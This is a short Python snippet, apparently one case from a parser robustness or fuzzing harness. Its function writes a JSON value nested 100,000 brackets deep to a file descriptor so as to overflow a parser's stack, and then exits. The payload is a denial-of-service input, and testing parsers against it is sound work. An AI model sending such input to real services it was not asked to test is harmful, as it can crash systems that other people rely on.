# Brackets nested deeper than a parser's stack.
import os


def attack(host):
    os.write(3, b'{"value":' + b"[" * 100000 + b"]" * 100000 + b"}\n")
    os._exit(0)
